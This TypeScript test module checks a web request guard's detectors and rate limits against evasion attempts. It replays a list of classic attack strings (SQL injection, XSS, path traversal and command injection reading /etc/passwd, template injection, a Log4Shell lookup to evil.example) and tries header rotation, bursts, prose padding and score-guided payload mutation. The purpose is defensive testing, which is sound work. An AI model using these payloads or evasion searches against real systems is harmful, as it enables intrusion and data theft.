/**
 * Evasions that need several requests, or a search. Each plays against the guard and throws when it succeeds.
 * @module
 */
import { equal, ok } from "node:assert/strict";
import { Hono } from "hono";
import { examine } from "../../detectors/engine.ts";
import { getWith } from "../../detectors/testing.ts";
import { clientOf } from "../../guard/client.ts";
import { guard, MemoryCounters } from "../../guard/mod.ts";
import type { LimitPolicy } from "../../guard/types.ts";
import { Random } from "../corpus/traffic/random.ts";
import { paragraph } from "../corpus/traffic/prose.ts";
import { nameVariants, spraying } from "./login.ts";
import { mutated } from "./mutate.ts";

const PLAYED: readonly string[] = [
  "' OR 1=1 -- ",
  "1' UNION SELECT name, password FROM users -- ",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "../../../../etc/passwd",
  "; cat /etc/passwd",
  "{{7*7}}",
  "${jndi:ldap://evil.example/a}",
];

function isBlocked(text: string): boolean {
  return examine(getWith(text)).score.reached;
}

function forwardedForRotation(): void {
  const direct = { trustProxy: 0, demoAddress: false };
  const behindOne = { trustProxy: 1, demoAddress: false };
  const seen = new Set<string>();
  const seenBehind = new Set<string>();
  for (let i = 0; i < 100; i++) {
    const invented = `203.0.113.${i}`;
    seen.add(clientOf("198.51.100.7", new Headers({ "x-forwarded-for": invented }), direct).id);
    const headers = new Headers({ "x-forwarded-for": `${invented}, 192.0.2.9` });
    seenBehind.add(clientOf("198.51.100.7", headers, behindOne).id);
  }
  equal(seen.size, 1, "without a trusted proxy the header changes who the client is");
  equal(seenBehind.size, 1, "behind one proxy the client's own entry changes who the client is");
}

async function boundaryBurst(): Promise<void> {
  for (const algorithm of ["sliding-log", "gcra"] as const) {
    const clock = { now: 59_000 };
    const app = new Hono();
    app.use(guard({ settings: { rateLimit: 100, algorithm }, now: () => clock.now, address: () => "198.51.100.7" }));
    app.all("*", (c) => c.text("reached"));
    const burst = async () => {
      let reached = 0;
      for (let i = 0; i < 100; i++) if ((await app.request("/")).status === 200) reached++;
      return reached;
    };
    const before = await burst();
    clock.now = 60_000;
    const after = await burst();
    ok(before + after <= 101, `${algorithm}: ${before} + ${after} requests within two seconds`);
  }
}

async function parallelGuesses(): Promise<void> {
  const policy: LimitPolicy = {
    name: "login",
    algorithm: "sliding-log",
    limit: 10,
    windowMs: 60_000,
    onFailure: "closed",
  };
  const counters = new MemoryCounters();
  const decisions = await Promise.all(
    Array.from({ length: 50 }, () => counters.hit("main", "login:198.51.100.7", policy, 1_000)),
  );
  equal(decisions.filter(({ allowed }) => allowed).length, 10);
}

/**
 * The payload stands before or behind two kilobytes of prose; rules and model look at parts, not at the mean. The prose
 * has no quotes and no new lines: they would end the SQL string or the comment, and the attack would not work.
 */
function stuffing(): void {
  const random = new Random(1_000_100);
  let prose = "";
  while (prose.length < 2_000) prose += `${paragraph(random).replaceAll(/['"`\n]/g, " ")} `;
  for (const payload of PLAYED.slice(0, 4)) {
    ok(isBlocked(`${payload} ${prose}`), `passes before prose: ${payload}`);
    ok(isBlocked(`${prose} ${payload}`), `passes behind prose: ${payload}`);
  }
}

/** Climbs that may end in an evasion, of `PLAYED.length` × 5. */
const MAX_EVADED = 3;

/** Hill climbs: of many meaning-preserving changes keep those that lower the score. */
function guidedMutation(): void {
  const random = new Random(1_000_101);
  const evaded: string[] = [];
  for (const payload of [...PLAYED, ...PLAYED, ...PLAYED, ...PLAYED, ...PLAYED]) {
    let best = payload;
    let score = examine(getWith(best)).score.score;
    for (let step = 0; step < 60; step++) {
      const candidate = mutated(random, best);
      const next = examine(getWith(candidate)).score.score;
      if (next <= score && candidate.length < 2_000) [best, score] = [candidate, next];
    }
    if (!isBlocked(best)) evaded.push(best);
  }
  ok(evaded.length <= MAX_EVADED, `these pass:\n${evaded.join("\n")}`);
}

/** By row number. */
export const SCENARIOS: Readonly<Record<number, () => void | Promise<void>>> = {
  95: forwardedForRotation,
  96: boundaryBurst,
  97: parallelGuesses,
  98: nameVariants,
  99: spraying,
  100: stuffing,
  101: guidedMutation,
};
